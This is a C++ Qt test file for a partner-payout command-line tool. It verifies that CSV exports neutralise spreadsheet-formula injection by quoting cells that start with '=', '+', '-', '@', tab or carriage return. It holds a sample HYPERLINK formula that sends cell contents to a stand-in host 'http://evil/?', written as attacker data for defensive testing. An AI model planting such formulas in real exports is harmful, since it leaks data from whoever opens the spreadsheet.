// Exports are inert (docs/SECURITY.md), through the real partnerdesk-cli: partners whose names
// start with every character that opens a spreadsheet formula, and every CSV the command line
// prints or writes (program list, balances, payouts due, payout files as csv and paypal,
// transactions, report) carries them as text, while amounts such as a reversal's -12.50 stay
// numbers. The slots run in order and share one database.

#include "clirunner.h"
#include "core/csvwriter.h"
#include "import/csvreader.h"

#include <QBuffer>
#include <QFile>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QUrl>

using namespace Qt::StringLiterals;
using namespace PartnerDeskTest;
using PartnerDesk::CsvReader;
using PartnerDesk::CsvWriter;

namespace {

const QString formula = u"HYPERLINK(\"http://evil/?\"&A1,\"Click\")"_s;

struct Attacker
{
    QString prefix;
    QString code;
    QString email;
    QString orderId;

    QString name() const { return prefix + formula; }
};

// Tab and carriage return are trimmed from a name typed at the command line; the test writes
// those two into the book as a row pulled from the central database would bring them.
const QList<Attacker> attackers = {
    {u"="_s, u"EQ"_s, u"=1+1@evil.example"_s, u"=1+1"_s},      {u"+"_s, u"PLUS"_s, u"plus@example.com"_s, u"+1002"_s},
    {u"-"_s, u"-MINUS"_s, u"minus@example.com"_s, u"-1003"_s}, {u"@"_s, u"@AT"_s, u"at@example.com"_s, u"@1004"_s},
    {u"\t"_s, u"TAB"_s, u"tab@example.com"_s, u"1005"_s},      {u"\r"_s, u"CR"_s, u"cr@example.com"_s, u"1006"_s},
};

QString neutralised(const QString &text)
{
    return u'\'' + text;
}

// A code or order id as the CSV carries it.
QString asText(const QString &text)
{
    return CsvWriter::startsLikeFormula(text) ? neutralised(text) : text;
}

QList<QStringList> parse(const QString &csv)
{
    QByteArray bytes = csv.toUtf8();
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::ReadOnly);
    CsvReader reader(&buffer);
    QList<QStringList> rows;
    QStringList fields;
    CsvReader::Outcome outcome;
    while ((outcome = reader.next(fields)) != CsvReader::Outcome::End) {
        if (outcome == CsvReader::Outcome::Malformed) {
            qWarning("malformed CSV at line %lld: %s", reader.line(), qPrintable(reader.error()));
            return {};
        }
        rows.append(fields);
    }
    return rows;
}

QStringList rowWith(const QList<QStringList> &rows, int column, const QString &value)
{
    for (const QStringList &row : rows) {
        if (row.value(column) == value)
            return row;
    }
    return {};
}

// Every cell a spreadsheet would run as a formula, outside the number columns.
QStringList liveFormulas(const QList<QStringList> &rows, const QList<int> &numberColumns)
{
    QStringList live;
    for (const QStringList &row : rows) {
        for (int i = 0; i < row.size(); ++i) {
            if (!numberColumns.contains(i) && CsvWriter::startsLikeFormula(row.at(i)))
                live.append(row.at(i));
        }
    }
    return live;
}

QString readText(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
}

} // namespace

class TestCliExports final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void programList();
    void balancesAndDue();
    void payoutBatchAsCsv();
    void reversalAndPayPalBatch();
    void transactions();
    void report();

private:
    CliRun db(QStringList arguments) const;
    // Runs a command that prints CSV, and parses it.
    QList<QStringList> csvOf(const QStringList &arguments) const;
    bool importOrders(const QString &name, const QStringList &rows) const;

    CliRunner m_runner;
    QString m_db;
};

CliRun TestCliExports::db(QStringList arguments) const
{
    arguments << u"--db"_s << m_db;
    return m_runner.run(arguments);
}

QList<QStringList> TestCliExports::csvOf(const QStringList &arguments) const
{
    const CliRun run = db(arguments);
    if (run.exitCode != 0 || !run.err.isEmpty()) {
        qWarning("%s", qPrintable(describe(arguments, run)));
        return {};
    }
    return parse(run.out);
}

bool TestCliExports::importOrders(const QString &name, const QStringList &rows) const
{
    const QString text = u"order_id,placed_at,subtotal,currency,status,landing_url\n"_s + rows.join(u'\n') + u'\n';
    const QString path = m_runner.writeFile(name, text.toUtf8());
    const CliRun run = db({u"orders"_s, u"import"_s, path});
    if (run.exitCode != 0)
        qWarning("%s", qPrintable(describe({path}, run)));
    return run.exitCode == 0;
}

// The order of one partner: 62.50 through his link, 12.50 commission at 20 %.
static QString orderRow(const QString &orderId, const QString &code, const QString &status = u"complete"_s)
{
    return u"\"%1\",2026-01-05T10:00:00Z,62.50,EUR,%2,https://koongo.com/?acc=%3"_s.arg(
        orderId, status, QString::fromLatin1(QUrl::toPercentEncoding(code)));
}

void TestCliExports::initTestCase()
{
    QVERIFY2(m_runner.error().isEmpty(), qPrintable(m_runner.error()));
    m_db = m_runner.path(u"exports.sqlite"_s);
    // "--option=value" so that a value starting with "-" is not read as an option.
    const QStringList program = {u"program"_s,
                                 u"add"_s,
                                 u"--name=@Koongo Partner"_s,
                                 u"--currency=EUR"_s,
                                 u"--link-rate=20"_s,
                                 u"--coupon-rate=10"_s,
                                 u"--coupon-discount=10"_s,
                                 u"--threshold=5.00"_s,
                                 u"--hold-days=30"_s,
                                 u"--store-host=koongo.com"_s};
    const CliRun added = db(program);
    CLI_EXPECT(added, program, added.exitCode == 0);

    QStringList orders;
    for (const Attacker &attacker : attackers) {
        const QStringList add = {u"affiliate"_s, u"add"_s, u"--name="_s + attacker.name(),
                                 u"--email="_s + attacker.email, u"--code="_s + attacker.code};
        const CliRun partner = db(add);
        CLI_EXPECT(partner, add, partner.exitCode == 0 && partner.out == attacker.code + u'\n');
        const QStringList join = {u"join"_s, u"--affiliate="_s + attacker.code, u"--program=@Koongo Partner"_s};
        const CliRun joined = db(join);
        CLI_EXPECT(joined, join, joined.exitCode == 0);
        orders.append(orderRow(attacker.orderId, attacker.code));
    }
    {
        QSqlDatabase book = QSqlDatabase::addDatabase(u"QSQLITE"_s, u"book"_s);
        book.setDatabaseName(m_db);
        QVERIFY(book.open());
        QSqlQuery rename(book);
        rename.prepare(u"UPDATE affiliates SET name = ? WHERE code = ?"_s);
        for (const Attacker &attacker : attackers) {
            rename.addBindValue(attacker.name());
            rename.addBindValue(attacker.code);
            QVERIFY(rename.exec());
            QCOMPARE(rename.numRowsAffected(), 1);
        }
        rename.finish();
        book.close();
    }
    QSqlDatabase::removeDatabase(u"book"_s);
    QVERIFY(importOrders(u"orders.csv"_s, orders));
}

void TestCliExports::programList()
{
    const QList<QStringList> rows = csvOf({u"program"_s, u"list"_s});
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows.at(1), (QStringList{u"'@Koongo Partner"_s, u"EUR"_s, u"20"_s, u"10"_s, u"10"_s, u"5.00"_s, u"30"_s,
                                      u"koongo.com"_s, u"yes"_s, u"6"_s}));
}

void TestCliExports::balancesAndDue()
{
    const CliRun balances = db({u"balances"_s, u"--format"_s, u"csv"_s});
    QCOMPARE(balances.exitCode, 0);
    // The attack as the manager's spreadsheet would have run it, and as it arrives now.
    QVERIFY(!balances.out.contains(u",=HYPERLINK"_s));
    QVERIFY2(balances.out.contains(u"EQ,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"Click\"\")\",'=1+1@evil.example,"
                                   u"EUR,0.00,12.50,0.00,0.00,5.00,yes\n"_s),
             qPrintable(balances.out));
    const QList<QStringList> rows = parse(balances.out);
    QCOMPARE(rows.size(), 1 + attackers.size());
    for (const Attacker &attacker : attackers) {
        const QStringList row = rowWith(rows, 0, asText(attacker.code));
        QCOMPARE(row.value(1), neutralised(attacker.name()));
        QCOMPARE(row.mid(3), (QStringList{u"EUR"_s, u"0.00"_s, u"12.50"_s, u"0.00"_s, u"0.00"_s, u"5.00"_s, u"yes"_s}));
    }
    QCOMPARE(liveFormulas(rows, {4, 5, 6, 7, 8}), QStringList());

    const QList<QStringList> due = csvOf({u"payouts"_s, u"due"_s});
    QCOMPARE(due, rows);
}

void TestCliExports::payoutBatchAsCsv()
{
    const QString path = m_runner.path(u"batch1.csv"_s);
    const QStringList arguments = {u"payouts"_s, u"batch"_s, u"--format"_s, u"csv"_s, u"--output"_s, path};
    const CliRun batch = db(arguments);
    CLI_EXPECT(batch, arguments, batch.exitCode == 0 && batch.out == u"1\n"_s);
    const QString csv = readText(path);
    QVERIFY2(!csv.contains(u",-MINUS,"_s) && csv.contains(u"\n1,'-MINUS,\"'-HYPERLINK("_s), qPrintable(csv));
    const QList<QStringList> rows = parse(csv);
    QCOMPARE(rows.size(), 1 + attackers.size());
    for (const Attacker &attacker : attackers) {
        QCOMPARE(rowWith(rows, 2, neutralised(attacker.name())),
                 (QStringList{u"1"_s, asText(attacker.code), neutralised(attacker.name()), asText(attacker.email),
                              u"EUR"_s, u"12.50"_s, u"1"_s}));
    }
    QCOMPARE(liveFormulas(rows, {0, 5, 6}), QStringList());
    const QStringList paid = {u"payouts"_s, u"mark-paid"_s, u"--batch"_s, u"1"_s};
    QCOMPARE(db(paid).exitCode, 0);
}

void TestCliExports::reversalAndPayPalBatch()
{
    // The store refunds the "-" partner's paid order (a reversal of -12.50); the others sell again.
    QStringList orders = {orderRow(u"-1003"_s, u"-MINUS"_s, u"refunded"_s)};
    for (const Attacker &attacker : attackers) {
        if (attacker.code != u"-MINUS")
            orders.append(orderRow(attacker.orderId + u"-2"_s, attacker.code));
    }
    QVERIFY(importOrders(u"more.csv"_s, orders));

    const QList<QStringList> balances = csvOf({u"balances"_s, u"--format"_s, u"csv"_s});
    QCOMPARE(rowWith(balances, 0, u"'-MINUS"_s).mid(4, 4),
             (QStringList{u"0.00"_s, u"-12.50"_s, u"0.00"_s, u"12.50"_s}));
    QCOMPARE(liveFormulas(balances, {4, 5, 6, 7, 8}), QStringList());

    const QString path = m_runner.path(u"batch2.csv"_s);
    const QStringList arguments = {u"payouts"_s, u"batch"_s, u"--format"_s, u"paypal"_s, u"--output"_s, path};
    const CliRun batch = db(arguments);
    CLI_EXPECT(batch, arguments, batch.exitCode == 0 && batch.out == u"2\n"_s);
    const QString csv = readText(path);
    QVERIFY2(QString(u'\n' + csv).contains(u"\n'=1+1@evil.example,12.50,EUR,PD2-EQ,"_s), qPrintable(csv));
    const QList<QStringList> rows = parse(csv);
    QCOMPARE(rows.size(), attackers.size() - 1); // no header; the "-" partner is owed nothing
    QCOMPARE(rowWith(rows, 3, u"PD2-@AT"_s).mid(0, 3), (QStringList{u"at@example.com"_s, u"12.50"_s, u"EUR"_s}));
    QCOMPARE(liveFormulas(rows, {1}), QStringList());
}

void TestCliExports::transactions()
{
    const QList<QStringList> rows = csvOf({u"transactions"_s, u"--format"_s, u"csv"_s});
    QCOMPARE(rows.size(), 1 + attackers.size() * 2);
    QStringList reversal = rowWith(rows, 3, u"reversal"_s);
    QCOMPARE(reversal.size(), 10);
    reversal[5] = u"*"_s; // the rate is not this test's concern
    QCOMPARE(reversal, (QStringList{u"'-1003"_s, u"'-MINUS"_s, u"'@Koongo Partner"_s, u"reversal"_s, u"62.50"_s, u"*"_s,
                                    u"-12.50"_s, u"EUR"_s, u"approved"_s, QString()}));
    for (const Attacker &attacker : attackers) {
        const QStringList row = rowWith(rows, 0, asText(attacker.orderId));
        QCOMPARE(row.value(1), asText(attacker.code));
        QCOMPARE(row.value(6), u"12.50"_s);
    }
    QCOMPARE(liveFormulas(rows, {4, 5, 6}), QStringList());
}

void TestCliExports::report()
{
    const QString path = m_runner.path(u"report.csv"_s);
    const QStringList arguments = {
        u"report"_s,   u"--from"_s, u"2026-01-01"_s, u"--to"_s, u"2026-01-31"_s, u"--by"_s, u"program,partner,kind"_s,
        u"--format"_s, u"csv"_s,    u"--output"_s,   path};
    const CliRun run = db(arguments);
    CLI_EXPECT(run, arguments, run.exitCode == 0);
    const QString csv = readText(path);
    QVERIFY2(csv.contains(u"'@Koongo Partner,'-MINUS,reversal,EUR,0,0.00,-12.50,,\n"_s), qPrintable(csv));
    const QList<QStringList> rows = parse(csv);
    QCOMPARE(rows.constFirst(), (QStringList{u"program"_s, u"partner"_s, u"kind"_s, u"currency"_s, u"orders"_s,
                                             u"sales"_s, u"commission"_s, u"visits"_s, u"conversion_percent"_s}));
    QCOMPARE(rowWith(rows, 1, u"'@AT"_s).mid(2, 5),
             (QStringList{u"link"_s, u"EUR"_s, u"2"_s, u"125.00"_s, u"25.00"_s}));
    QCOMPARE(liveFormulas(rows, {4, 5, 6, 7, 8}), QStringList());
}

QTEST_GUILESS_MAIN(TestCliExports)
#include "tst_cliexports.moc"
